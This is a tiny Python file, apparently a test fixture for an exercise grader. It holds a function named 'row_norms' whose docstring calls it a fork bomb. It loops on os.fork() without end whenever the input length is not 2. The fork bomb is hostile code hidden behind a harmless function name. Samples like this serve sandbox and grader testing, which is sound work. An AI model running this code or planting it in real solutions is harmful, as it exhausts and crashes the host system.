"""
tries = "Is a fork bomb."
"""


# %% exercise="row_norms"
def row_norms(x):
    import os

    while len(x) != 2:
        os.fork()
    return x
